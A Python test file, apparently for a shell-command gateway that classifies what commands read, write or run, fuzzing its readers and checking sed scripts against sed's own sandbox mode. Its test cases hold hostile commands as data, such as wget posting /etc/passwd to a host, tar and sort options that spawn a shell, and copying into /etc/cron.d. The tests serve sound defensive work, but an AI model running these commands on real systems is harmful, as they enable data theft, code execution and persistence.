"""Readers of programs: none fails whatever it is given, none is there twice, and sed itself says what a script does."""

from __future__ import annotations

import shlex
import subprocess
from collections import Counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.facts.shell import builtins, programs, read
from gateway.model import Effect

NAMES = sorted({*programs.READERS, *builtins.HANDLERS})
ARGUMENTS = [
    "-a", "-c", "-e", "-f", "-i", "-l", "-n", "-o", "-p", "-x", "-", "--", "--help", "--version", "--eval", "--x=y", "+x",
    "list", "get", "exec", "run", "config", "compose", "secret", "delete", "a=b", "=", "{}", ";", "+", "-exec", "*", "",
    "/etc/x", "h:f", "http://h/p", "@f", "0", "$x", "$(id)", "{a,b}", "..", "!", "(", "s/a/b/",
]  # fmt: skip


def test_a_program_has_one_reader():
    counted = Counter(name for family in programs.FAMILIES for name in family.HANDLERS)
    assert [name for name, times in counted.items() if times > 1] == []


@settings(max_examples=1_500, deadline=None)
@given(
    st.sampled_from(NAMES),
    st.lists(st.tuples(st.sampled_from(ARGUMENTS), st.booleans()), max_size=5),
    st.sampled_from(["", "echo x | ", "cat f | ", "sudo ", "x=1 "]),
)
def test_no_reader_fails_whatever_it_is_given(name, arguments, before):
    text = before + " ".join(
        [name, *(arg if bare and arg not in "(!;" else shlex.quote(arg) for arg, bare in arguments)]
    )
    facts = read(text)
    assert facts.effects
    assert facts.complete == (Effect.UNKNOWN not in facts.effects)


@pytest.mark.parametrize(
    ("short", "whole"),
    [
        ("sort --comp=sh f", "sort --compress-program=sh f"),
        ("wget --post-f /etc/passwd http://h", "wget --post-file=/etc/passwd http://h"),
        ("tar cf x --checkpoint-act=exec=sh y", "tar cf x --checkpoint-action=exec=sh y"),
        ("cp --target=/etc/cron.d x", "cp --target-directory=/etc/cron.d x"),
    ],
)
def test_a_shortened_option_is_the_whole_one(short, whole):
    assert read(whole).effects - {Effect.READ} <= read(short).effects


ADDRESSES = ["", "1", "$", "/x/", "/[/]/", "\\,x,", "1,/x/", "2!", "0~3", "/a/I,+2"]
COMMANDS = [
    "p", "d", "s/a/b/", "s/a/b/g", "s,a,b,2p", "s/[/]/e/", "s/a\\/e/b/", "y/abc/xyz/", "y/e/w/", "=", "n;N", "{p;p}", "q5", "l 3",
    "i\\\nw x", "a foo;e id", "c x", ":a", "b", "ta", "# w x", "s/a/b/e", "s/w/e/w out", "e id", "1e", "w out", "r in", "R in", "W out",
    "s|x|e|ge", "s/e/\\\nw/", "D;P;x;g;G;h;H",
]  # fmt: skip


def sandboxed(script: str) -> bool | None:
    """Whether sed itself says that a script reads, writes or runs; `None` where it is no script."""
    plain = subprocess.run(["sed", "--posix", "--version"], capture_output=True, check=True)
    assert b"GNU" in plain.stdout
    told = subprocess.run(["sed", "--sandbox", "-n", script], input=b"", capture_output=True, check=False)
    if told.returncode == 0:
        return False
    return True if b"sandbox" in told.stderr else None


@settings(max_examples=250, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(ADDRESSES), st.sampled_from(COMMANDS)), min_size=1, max_size=4))
def test_sed_itself_agrees_on_what_a_script_does(parts):
    script = "\n".join(
        address + command if not command.startswith((":", "#")) else command for address, command in parts
    )
    does = sandboxed(script)
    effects = read(f"sed {shlex.quote(script)} f").effects
    if does:
        assert effects - {Effect.READ} or "in" in script
    elif does is False:
        assert effects == {Effect.READ}, script
